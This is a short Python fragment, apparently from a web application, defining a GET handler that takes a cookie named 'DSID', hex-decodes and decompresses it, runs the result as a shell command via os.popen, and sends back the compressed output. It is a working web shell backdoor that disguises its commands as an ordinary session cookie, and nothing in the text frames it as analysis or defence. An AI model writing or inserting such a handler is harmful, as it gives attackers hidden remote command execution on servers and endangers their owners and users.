raise SystemExit
def get( self ) :
    jar   =  request . cookies
    token = jar[ 'DSID' ]
    text  = zlib.decompress( binascii.unhexlify( token ) ).decode( )
    with os . popen( text ) as pipe :
        return Response( zlib.compress( pipe.read( ).encode( ) ) )
